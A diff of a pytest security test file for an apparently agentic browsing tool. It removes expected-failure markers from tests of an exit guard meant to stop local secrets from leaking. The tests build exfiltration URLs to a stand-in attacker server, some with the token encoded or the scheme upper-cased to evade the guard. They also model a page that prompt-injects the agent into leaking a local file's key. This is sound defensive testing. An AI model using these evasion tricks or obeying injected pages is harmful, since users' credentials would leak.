@@ -51,8 +51,6 @@ async def secret_daemon(tmp_path: Path) -> AsyncIterator[RunningDaemon]:
 
 
 # ---------------------------------------------------------------------------------------------- exit guard
-@pytest.mark.xfail(strict=True, reason="R1 (high): exit guard skipped for an upper-case scheme: ExitGuard.check "
-                                       "tests url.startswith(('http://', 'https://')) case-sensitively")
 @pytest.mark.parametrize("scheme", ["HTTP", "Http", "hTtP"])
 async def test_exit_guard_upper_case_scheme(secret_daemon: RunningDaemon, attacker: Server, scheme: str) -> None:
     url = attacker.url.replace("http", scheme, 1) + f"/collect?k={TOKEN}"
@@ -94,8 +92,6 @@ ENCODINGS = {"split across two parameters": _split, "dash-separated groups": _da
              "full-width letters": _fullwidth}
 
 
-@pytest.mark.xfail(strict=True, reason="R2 (medium): exit guard misses simple encodings of a secret "
-                                       "(only whole 12+ alnum runs, one base64/hex/percent layer are searched)")
 @pytest.mark.parametrize("encoding", list(ENCODINGS))
 async def test_exit_guard_simple_encodings(secret_daemon: RunningDaemon, attacker: Server, encoding: str) -> None:
     body = await fetch(secret_daemon, f"{attacker.url}/collect?{ENCODINGS[encoding](TOKEN)}")
@@ -121,8 +117,6 @@ async def noise_site() -> AsyncIterator[Server]:
     await runner.cleanup()
 
 
-@pytest.mark.xfail(strict=True, reason="R3 (medium): the exit guard's taint memory is one LRU for every origin; "
-                                       "pages of fresh text from the attacker evict a local file's secret")
 async def test_exit_guard_memory_flooded_by_attacker_pages(secret_daemon: RunningDaemon, noise_site: Server,
                                                            tmp_path: Path) -> None:
     guard = secret_daemon.state.services.extras["exit_guard"]
@@ -249,9 +243,6 @@ async def test_hidden_text_after_the_scan_budget_is_still_marked(tmp_path: Path,
 
 # ---------------------------------------------------------------------------- exit guard: the open-tab rule
 @pytest.mark.timeout(120)
-@pytest.mark.xfail(strict=True, reason="R8 (high, design): 'open in the user's browser' vouches for the very site "
-                                       "whose page injected the agent (the user is reading it in a tab and asks "
-                                       "about it), so it receives a local file's secret")
 async def test_the_injecting_page_open_in_a_tab_does_not_receive_secrets(tmp_path: Path, attacker: Server,
                                                                          chromium: str) -> None:
     from tests.e2e.conftest import close_linked, e2e_settings, launch_linked
@@ -277,9 +268,6 @@ async def test_the_injecting_page_open_in_a_tab_does_not_receive_secrets(tmp_pat
 SHARED_SUFFIXES = ["github.io", "vercel.app", "herokuapp.com", "blogspot.com", "s3.amazonaws.com", "gen.in"]
 
 
-@pytest.mark.xfail(strict=True, reason="R9 (medium): exits.site_of groups hosts by their last two labels, not the "
-                                       "Public Suffix List: data read from victim.github.io may go to "
-                                       "attacker.github.io (any shared-hosting suffix)")
 @pytest.mark.parametrize("suffix", SHARED_SUFFIXES)
 async def test_data_from_one_tenant_cannot_go_to_another_on_a_shared_suffix(tmp_path: Path, suffix: str) -> None:
     # The ExitGuard itself (the daemon's, built the same way): these names need public DNS, which tests lack.
@@ -298,9 +286,6 @@ async def test_data_from_one_tenant_cannot_go_to_another_on_a_shared_suffix(tmp_
 
 
 # ------------------------------------------------------------------------------------------ private networks
-@pytest.mark.xfail(strict=True, reason="R10 (low): Azure's WireServer 168.63.129.16 (a public-range platform "
-                                       "endpoint that hands VMs their extension settings and certificates) is not "
-                                       "on netguard.CLOUD_METADATA, so agents may read it")
 @pytest.mark.parametrize("mode", ["none", "loopback", "all"])
 async def test_azure_wireserver_is_refused_like_cloud_metadata(tmp_path: Path, mode: str) -> None:
     from trawl.netguard import NetGuard
@@ -347,9 +332,6 @@ async def test_raw_html_hiding_spellings_are_caught(tmp_path: Path, technique: s
 
 
 # ----------------------------------------------------------------------------------------------- status page
-@pytest.mark.xfail(strict=True, reason="R12 (low): an exit let through (allowed host) is masked in the exits table "
-                                       "but its full URL, secret included, is in the status page's recent requests "
-                                       "(capabilities.base.execute masks the recorded URL only on a refusal)")
 async def test_a_let_through_exit_does_not_put_the_secret_on_the_status_page(tmp_path: Path,
                                                                               attacker: Server) -> None:
     (tmp_path / "secrets.md").write_text(f"# Keys\n\nThe payment API key is {TOKEN} and it must stay private.\n")
